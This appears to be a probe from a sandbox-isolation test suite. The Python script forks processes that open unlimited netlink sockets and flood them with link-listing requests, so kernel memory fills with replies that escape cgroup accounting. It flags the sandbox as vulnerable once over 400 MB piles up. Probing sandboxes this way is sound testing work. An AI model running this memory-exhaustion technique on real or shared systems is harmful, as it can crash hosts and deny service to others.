# Answers that wait in netlink sockets, which the kernel charges to nobody. All that this sandbox's network namespace holds is counted here.
import socket, struct, time
request = struct.pack("IHHII", 32, 18, 1, 1, 0) + struct.pack("BxHiII", 0, 0, 1, 0, 0)  # RTM_GETLINK
def waiting(): return sum(int(line.split()[4]) for line in open("/proc/net/netlink").readlines()[1:])
safe("filling")
for _ in range(8):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                kept.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
                kept[-1].bind((0, 0)); kept[-1].setblocking(False)
                try:
                    for _ in range(400): kept[-1].sendto(request, (0, 0))
                except BlockingIOError: pass
        except OSError: time.sleep(9)
        os._exit(0)
for _ in range(10):
    time.sleep(0.25)
    if waiting() > 400 << 20: vulnerable(f"{waiting() >> 20} MB wait")
